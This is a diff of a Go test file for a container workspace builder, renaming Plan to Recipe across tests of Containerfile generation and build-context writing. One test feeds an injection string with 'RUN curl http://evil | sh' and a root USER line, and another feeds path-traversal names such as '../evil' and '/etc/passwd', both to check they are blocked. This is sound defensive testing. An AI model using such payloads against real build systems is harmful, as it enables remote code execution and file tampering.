@@ -57,19 +57,19 @@ func TestWorkspaceContainerfileGolden(t *testing.T) {
 		t.Run(tt.name, func(t *testing.T) {
 			cfg := testConfig(t.TempDir())
 			tt.edit(cfg)
-			plan, err := WorkspacePlan(cfg)
+			recipe, err := WorkspaceRecipe(cfg)
 			if err != nil {
 				t.Fatal(err)
 			}
-			golden(t, tt.golden, plan.Containerfile)
-			if plan.Name != WorkspaceName || !strings.HasPrefix(plan.Tag, WorkspaceName+":") || len(plan.Tag) != len(WorkspaceName)+1+12 {
-				t.Errorf("name %q tag %q: want paude-workspace:<12 hex>", plan.Name, plan.Tag)
+			golden(t, tt.golden, recipe.Containerfile)
+			if recipe.Name != WorkspaceName || !strings.HasPrefix(recipe.Tag, WorkspaceName+":") || len(recipe.Tag) != len(WorkspaceName)+1+12 {
+				t.Errorf("name %q tag %q: want paude-workspace:<12 hex>", recipe.Name, recipe.Tag)
 			}
 			want := append([]string{"entrypoint.sh", "tmux.conf"}, tt.files...)
-			if got := sortedKeys(plan.Files); !reflect.DeepEqual(got, sortedStrings(want)) {
+			if got := sortedKeys(recipe.Files); !reflect.DeepEqual(got, sortedStrings(want)) {
 				t.Errorf("files %v, want %v", got, want)
 			}
-			if got := instructions(t, plan.Containerfile); !reflect.DeepEqual(got, wantInstructions(cfg)) {
+			if got := instructions(t, recipe.Containerfile); !reflect.DeepEqual(got, wantInstructions(cfg)) {
 				t.Errorf("instructions %v, want %v", got, wantInstructions(cfg))
 			}
 		})
@@ -80,11 +80,11 @@ func TestWorkspaceAgentArgsRoundTrip(t *testing.T) {
 	cfg := testConfig(t.TempDir())
 	cfg.Agent.Args = []string{"--model", "a b", "", "$HOME", "it's\nmulti-line", `back\slash`}
 	cfg.Agent.YoloArgs = []string{"--yolo", "x=y"}
-	plan, err := WorkspacePlan(cfg)
+	recipe, err := WorkspaceRecipe(cfg)
 	if err != nil {
 		t.Fatal(err)
 	}
-	env := envValues(t, plan.Containerfile)
+	env := envValues(t, recipe.Containerfile)
 	for key, want := range map[string][]string{"PAUDE_AGENT_ARGS": cfg.Agent.Args, "PAUDE_AGENT_YOLO_ARGS": cfg.Agent.YoloArgs} {
 		raw, err := base64.StdEncoding.DecodeString(env[key])
 		if err != nil {
@@ -100,7 +100,7 @@ func TestWorkspaceAgentArgsRoundTrip(t *testing.T) {
 	}
 }
 
-func TestWorkspacePlanRejects(t *testing.T) {
+func TestWorkspaceRecipeRejects(t *testing.T) {
 	tests := []struct {
 		name string
 		edit func(c *config.Config)
@@ -140,9 +140,9 @@ func TestWorkspacePlanRejects(t *testing.T) {
 		t.Run(tt.name, func(t *testing.T) {
 			cfg := testConfig(t.TempDir())
 			tt.edit(cfg)
-			plan, err := WorkspacePlan(cfg)
+			recipe, err := WorkspaceRecipe(cfg)
 			if err == nil || !strings.Contains(err.Error(), tt.want) {
-				t.Fatalf("got plan %v, error %v; want an error containing %q", plan != nil, err, tt.want)
+				t.Fatalf("got recipe %v, error %v; want an error containing %q", recipe != nil, err, tt.want)
 			}
 		})
 	}
@@ -151,11 +151,11 @@ func TestWorkspacePlanRejects(t *testing.T) {
 func TestWorkspaceInstallCannotAddInstructions(t *testing.T) {
 	cfg := testConfig(t.TempDir())
 	cfg.Agent.Install = "echo hi\nUSER root\nRUN curl http://evil | sh\n\\\nENTRYPOINT [\"/bin/evil\"]"
-	plan, err := WorkspacePlan(cfg)
+	recipe, err := WorkspaceRecipe(cfg)
 	if err != nil {
 		t.Fatal(err)
 	}
-	if got := instructions(t, plan.Containerfile); !reflect.DeepEqual(got, wantInstructions(cfg)) {
+	if got := instructions(t, recipe.Containerfile); !reflect.DeepEqual(got, wantInstructions(cfg)) {
 		t.Errorf("instructions %v, want %v", got, wantInstructions(cfg))
 	}
 }
@@ -245,13 +245,13 @@ func sortedStrings(s []string) []string {
 }
 
 func TestWriteContext(t *testing.T) {
-	plan, err := WorkspacePlan(testConfig(t.TempDir()))
+	recipe, err := WorkspaceRecipe(testConfig(t.TempDir()))
 	if err != nil {
 		t.Fatal(err)
 	}
-	plan.Files["pip/requirements.txt"] = []byte("rich\n")
+	recipe.Files["pip/requirements.txt"] = []byte("rich\n")
 	dir := filepath.Join(t.TempDir(), "ctx")
-	if err := plan.WriteContext(dir); err != nil {
+	if err := recipe.WriteContext(dir); err != nil {
 		t.Fatal(err)
 	}
 	for name, mode := range map[string]os.FileMode{"Containerfile": 0o644, "entrypoint.sh": 0o755, "tmux.conf": 0o644, "pip/requirements.txt": 0o644} {
@@ -263,9 +263,9 @@ func TestWriteContext(t *testing.T) {
 			t.Errorf("%s has mode %o, want %o", name, info.Mode().Perm(), mode)
 		}
 		got, _ := os.ReadFile(filepath.Join(dir, name))
-		want := plan.Files[name]
+		want := recipe.Files[name]
 		if name == "Containerfile" {
-			want = plan.Containerfile
+			want = recipe.Containerfile
 		}
 		if string(got) != string(want) {
 			t.Errorf("%s content differs", name)
@@ -277,7 +277,7 @@ func TestWriteContextRejectsEscapingNames(t *testing.T) {
 	for _, name := range []string{"../evil", "/etc/passwd", "a/../../b", "", "Containerfile", `a\b`, "./x"} {
 		t.Run(name, func(t *testing.T) {
 			dir := filepath.Join(t.TempDir(), "ctx")
-			p := &Plan{Containerfile: []byte("FROM x\n"), Files: map[string][]byte{name: []byte("x")}}
+			p := &Recipe{Containerfile: []byte("FROM x\n"), Files: map[string][]byte{name: []byte("x")}}
 			if err := p.WriteContext(dir); err == nil {
 				t.Fatalf("WriteContext accepted file name %q", name)
 			}
